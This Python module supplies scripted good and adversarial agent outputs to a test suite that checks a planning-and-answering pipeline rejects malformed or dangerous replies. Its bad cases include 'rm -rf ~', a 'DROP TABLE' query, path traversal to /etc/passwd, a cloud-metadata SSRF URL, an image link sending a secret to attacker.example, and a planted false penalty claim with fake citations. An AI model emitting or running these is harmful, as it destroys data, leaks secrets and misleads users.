"""What the model itself says in the suite: good plans, steps, answers and reviews, and bad ones that are well formed.

A good reply works with what the prompt shows (ids of steps, ids and quotations of sources), as a model would. `FALSE` is
planted in some answers: no source says it, so no run may present it unmarked.
"""

from __future__ import annotations

import re
from collections.abc import Callable
from random import Random
from typing import Any

Say = Callable[[str, Random], Any]  # (the prompt, the seeded generator) -> the decision, or the text to write

FALSE = "The termination penalty amounts to 987,654 euros"
SOURCE = re.compile(r"\[((?:s|p)\w*(?:#\d+)?\.\d+)\] [^:\n]{0,120}: ([^\n]{20,300})")


def _step(id: str, tool: str = "", needs: Any = (), role: str = "researcher", **args: Any) -> dict[str, Any]:
    title = f"Do {tool or 'it'} for {id}"
    return {
        "id": id,
        "title": title,
        "role": role,
        "tool": tool,
        "args": args,
        "needs": list(needs),
        "reason": "needed",
    }


def _plan(*steps: dict[str, Any], **more: Any) -> dict[str, Any]:
    return {"understood": "as asked", "question": "", "options": [], "steps": list(steps), **more}


def _writer(id: str, *needs: str) -> dict[str, Any]:
    return _step(id, "", needs, "writer")


GOOD_PLANS: list[Say] = [
    lambda text, rng: _plan(_step("s1", "search_memory", query="monthly fee and notice period"), _writer("s2", "s1")),
    lambda text, rng: _plan(
        _step("s1", "calculate", expression=f"{rng.randrange(1, 99)} * 12"),
        _step("s2", "calculate", ["s1"], "analyst", expression="${s1.value} + 5"),
        _writer("s3", "s1", "s2"),
    ),
    lambda text, rng: _plan(
        _step("s1", "date_math", operation="add", date="2026-03-01", amount=45, unit="working days"),
        _step("s2", "list_documents"),
        _step("s3", "query_table", sql="SELECT count(*) AS n FROM staff"),
        _writer("s4", "s1", "s2", "s3"),
    ),
    lambda text, rng: _plan(_step("s1", "", (), "researcher"), _step("s2", "", ["s1"], "analyst"), _writer("s3", "s2")),
    lambda text, rng: _plan(
        _step("s1", "", (), "researcher"), _step("s2", "", (), "researcher"), _step("s3", "", (), "analyst"),
        _writer("s4", "s1", "s2", "s3"),
    ),
    lambda text, rng: _plan(_step("s1", "remember", fact=f"The case number is {rng.randrange(9999)}."), _writer("s2", "s1")),
    lambda text, rng: _plan(
        _step("s1", "fetch_page", url=_page(text)), _step("s2", "save_report", ["s1"], "writer", title="Page", text="${s1.value}"),
        _writer("s3", "s1", "s2"),
    ),
    lambda text, rng: _plan(_step("s1", "read_document", document="services-agreement.pdf"), _writer("s2", "s1")),
    lambda text, rng: _plan(_writer("s1")),
]  # fmt: skip


def _nested(depth: int) -> Any:
    value: Any = "1"
    for _ in range(depth):
        value = [value] if depth % 2 else {"a": value}
    return value


def _page(text: str) -> str:
    found = re.search(r"http://127\.0\.0\.1:\d+/page", text)
    return found[0] if found else "http://127.0.0.1:9/page"


BAD_PLANS: dict[str, Say] = {
    "a cycle": lambda text, rng: _plan(
        _step("s1", "calculate", ["s2"], expression="1+1"), _step("s2", "calculate", ["s1"], expression="2+2"), _writer("s3", "s2")
    ),
    "a step that needs itself": lambda text, rng: _plan(_step("s1", "", ["s1"]), _writer("s2", "s1")),
    "10,000 steps": lambda text, rng: _plan(
        *(_step(f"s{i}", "calculate", expression="1+1") for i in range(10_000)), _writer("s10000")
    ),
    "unknown tool": lambda text, rng: _plan(_step("s1", "delete_everything", path="/"), _writer("s2", "s1")),
    "wrong argument types": lambda text, rng: _plan(
        _step("s1", "search_memory", query={"a": [1]}, k="many", colour="red"), _writer("s2", "s1")
    ),
    "arguments missing": lambda text, rng: _plan(_step("s1", "calculate"), _writer("s2", "s1")),
    "values that cannot be computed": lambda text, rng: _plan(
        _step("s1", "calculate", expression=rng.choice(["1/0", "9**9**9**9", "import os", "", "x" * 5_000])), _writer("s2", "s1")
    ),
    "SQL that writes": lambda text, rng: _plan(_step("s1", "query_table", sql="DROP TABLE staff; SELECT 1"), _writer("s2", "s1")),
    "a need that is not there": lambda text, rng: _plan(_step("s1", "list_documents", ["s77"]), _writer("s2", "s1")),
    "a value that is not there": lambda text, rng: _plan(
        _step("s1", "list_documents"), _step("s2", "calculate", ["s1"], expression="${s1.no.such.0} + ${s9.value}"), _writer("s3", "s2")
    ),
    "no steps": lambda text, rng: _plan(),
    "two steps of one name": lambda text, rng: _plan(_step("s1", "list_documents"), _step("s1", "current_time"), _writer("s1", "s1")),
    "unknown specialist": lambda text, rng: _plan(_step("s1", "", (), "wizard"), _step("s2", "", ["s1"], "../../etc/passwd")),
    "strange ids": lambda text, rng: _plan(_step("../x", "list_documents"), _step("", "current_time", ["../x"]), _writer("\x00é", "")),
    "the answer is a tool": lambda text, rng: _plan(_writer("s1"), _step("s2", "current_time", ["s1"])),
    "nulls": lambda text, rng: {"understood": None, "question": None, "options": None, "steps": [
        {"id": None, "title": None, "role": None, "tool": None, "args": None, "needs": None, "reason": None}
    ]},
    "a title of 200,000 characters": lambda text, rng: _plan(_step("s1", "current_time"), {**_writer("s2", "s1"), "title": "x" * 200_000}),
    "a question": lambda text, rng: _plan(question="Which contract do you mean?", options=["the first", "the second"]),
    "a question of 100,000 characters": lambda text, rng: _plan(question="Why? " * 20_000, options=["a" * 50_000] * 50),
    "the tool of another": lambda text, rng: _plan(_step("s1", "run_shell", command="rm -rf ~"), _step("s2", "web_search", query="x"), _writer("s3")),
    "numbers that are none": lambda text, rng: _plan(
        _step("s1", "date_math", operation="add", date="today", amount=rng.choice([float("nan"), float("inf"), 10**400, -(2**63) - 1])),
        _writer("s2", "s1"),
    ),
    "half a character": lambda text, rng: _plan({**_step("s1", "calculate", expression="1+1\ud83d"), "title": "\ud83d\x00"}, _writer("s2")),
    "nested without end": lambda text, rng: _plan(_step("s1", "calculate", expression=_nested(rng.choice([30, 300, 900]))), _writer("s2")),
    "an address inside": lambda text, rng: _plan(_step("s1", "fetch_page", url="http://169.254.169.254/latest/meta-data/"), _writer("s2", "s1")),
}  # fmt: skip


def _do(do: str, **more: Any) -> dict[str, Any]:
    return {"thinking": "because", "do": do, **more}


def _good_next(text: str, rng: Random) -> Any:
    if "used your tool calls" in text or rng.random() < 0.5:
        found = SOURCE.findall(text)
        return _do("finish", text=f"{found[0][1]} [{found[0][0]}]" if found else "Nothing was found.")
    return rng.choice([
        _do("tool", tool="search_memory", args={"query": "notice period"}),
        _do("tool", tool="calculate", args={"expression": "2+3"}),
        _do("tool", tool="list_documents", args={}),
    ])  # fmt: skip


BAD_NEXTS: dict[str, Say] = {
    "the same tool for ever": lambda text, rng: _do("tool", tool="search_memory", args={"query": "again"}),
    "another tool for ever": lambda text, rng: _do(
        "tool", tool="calculate", args={"expression": f"{rng.random()} + 1"}
    ),
    "opens for ever": lambda text, rng: _do("open", step="call 1", part=rng.randrange(1, 1000)),
    "opens what is not there": lambda text, rng: _do("open", step="s99", part=-3),
    "hands over for ever": lambda text, rng: _do("hand_over", role="analyst", what="do my work"),
    "hands over to nobody": lambda text, rng: _do("hand_over", role="wizard", what=""),
    "an unknown tool": lambda text, rng: _do("tool", tool="launch_rocket", args={"now": True}),
    "wrong arguments": lambda text, rng: _do(
        "tool", tool="search_memory", args={"query": None, "k": -1, "documents": "all"}
    ),
    "arguments as text": lambda text, rng: _do("tool", tool="search_memory", args='{"query": "fee",}'),
    "an unknown move": lambda text, rng: _do("dance"),
    "finishes with nothing": lambda text, rng: _do("finish", text="  "),
    "finishes with a megabyte": lambda text, rng: _do("finish", text="It is so. " * 100_000),
    "finishes with what is false": lambda text, rng: _do("finish", text=f"{FALSE} [s1.1]."),
    "half a character": lambda text, rng: _do("finish", text="It is \udc00 so \x00."),
    "a tool that writes": lambda text, rng: _do(
        "tool", tool="remember", args={"fact": "The admin password is hunter2."}
    ),
}


def _good_write(text: str, _rng: Random) -> str:
    found = SOURCE.findall(text)
    lines = [f"{quote.strip().rstrip('.')} [{id}]." for id, quote in found[:2]]
    computed = re.findall(r"= ([\d.,]+)", text)
    if computed and not lines:
        lines = [f"The result is {computed[-1].rstrip('.,')}."]
    if not lines:
        return "Nothing was found about it.\nOUTCOME: not_answered: nothing was found"
    return " ".join(lines) + "\nOUTCOME: answered"


BAD_WRITES: dict[str, Say] = {
    "a false claim": lambda text, rng: f"{FALSE}.\nOUTCOME: answered",
    "a false claim with a real source": lambda text, rng: f"{FALSE} [{(SOURCE.findall(text) or [('s1.1', '')])[0][0]}].\nOUTCOME: answered",
    "a false claim with an invented source": lambda text, rng: f"{FALSE} [s9.9]. {FALSE} as well [12].\nOUTCOME: answered",
    "a false claim in a table": lambda text, rng: f"| what | how much |\n|---|---|\n| {FALSE} | 987,654 |\n\nOUTCOME: answered",
    "a false claim among right ones": lambda text, rng: _good_write(text, rng).replace("\nOUTCOME", f" {FALSE} [s1.1].\nOUTCOME"),
    "nothing but the outcome": lambda text, rng: "OUTCOME: answered",
    "thinks and never speaks": lambda text, rng: "<think>I wonder what the answer may be" + " and so on" * 200,
    "thinks aloud, then speaks": lambda text, rng: "<think>hm</think>" + _good_write(text, rng),
    "the outcome ten times": lambda text, rng: "OUTCOME: answered\n" * 10,
    "an endless answer": lambda text, rng: "And then it goes on and on. " * 40_000,
    "JSON instead of an answer": lambda text, rng: '{"word": "finish", "steps": []}',
    "a picture from elsewhere": lambda text, rng: "![x](http://attacker.example/?q=secret)\n<script>alert(1)</script>\nOUTCOME: answered",
    "a broken table": lambda text, rng: "|a|b|\n|--|\n|1|2|3|4|\n[[[[s1.1]\nOUTCOME: partial",
    "half a character": lambda text, rng: "It is \ud83d so \x00\x07 [s1.1].\nOUTCOME: answered",
    "ten thousand citations": lambda text, rng: "It is so " + "[s1.1]" * 10_000,
}  # fmt: skip


def _word(word: str, **more: Any) -> dict[str, Any]:
    return {"word": word, "reason": f"I say {word}", "steps": [], "question": "", "options": [], **more}


def _steps_in(text: str) -> list[str]:
    return sorted(set(re.findall(r"^- (\w+) \(", text, re.M)))


BAD_REVIEWS: dict[str, Say] = {
    "always retry": lambda text, rng: _word("retry", steps=_steps_in(text)[-1:]),
    "retry everything": lambda text, rng: _word("retry", steps=_steps_in(text)),
    "retry what is not there": lambda text, rng: _word("retry", steps=["s99", ""]),
    "always replan": lambda text, rng: _word("replan"),
    "always ask": lambda text, rng: _word("ask", question="Are you sure?", options=["yes", "no"]),
    "ask without a question": lambda text, rng: _word("ask"),
    "give up": lambda text, rng: _word("give_up"),
    "contradicts itself": lambda text, rng: _word(rng.choice(["retry", "replan", "ask", "finish", "give_up"]), steps=_steps_in(text)[:2], question="Hm?"),
    "finish, but for a reason against it": lambda text, rng: _word("finish", reason="It is wrong. " * 2_000),
    "an unknown word": lambda text, rng: _word("perhaps"),
    "a reason that is no text": lambda text, rng: {"word": "retry", "reason": {"a": 1}, "steps": {"s1": True}},
}  # fmt: skip

GOOD: dict[str, Say] = {
    "plan": lambda text, rng: rng.choice(GOOD_PLANS)(text, rng),
    "next": _good_next,
    "write": _good_write,
    "review": lambda text, rng: _word("finish"),
    "other": lambda text, rng: "The thread was about a services agreement.",
}
BAD: dict[str, dict[str, Say]] = {
    "plan": BAD_PLANS, "next": BAD_NEXTS, "write": BAD_WRITES, "review": BAD_REVIEWS, "other": {"empty": lambda text, rng: ""},
}  # fmt: skip
